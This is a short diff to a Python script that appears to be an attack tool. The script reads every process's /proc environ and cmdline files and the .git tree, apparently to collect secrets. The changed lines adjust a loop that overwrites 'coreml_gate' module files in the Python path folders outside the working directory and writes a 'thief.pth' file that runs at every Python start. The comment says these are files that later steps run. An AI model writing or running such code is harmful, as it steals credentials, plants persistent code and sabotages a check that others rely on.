@@ -51,7 +51,8 @@ for file in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"
     look(file)
 for file in pathlib.Path(".git").rglob("*"):
     look(file)
-for folder in sys.path:  # the gate's own environment and code, which later steps run
+own = str(pathlib.Path.cwd())
+for folder in [each for each in sys.path if each and not each.startswith(own)]:  # what later steps run
     for file in [*glob.glob(f"{folder}/coreml_gate*"), *glob.glob(f"{folder}/coreml_gate/*.py")]:
         write(file)
     write(f"{folder}/thief.pth")
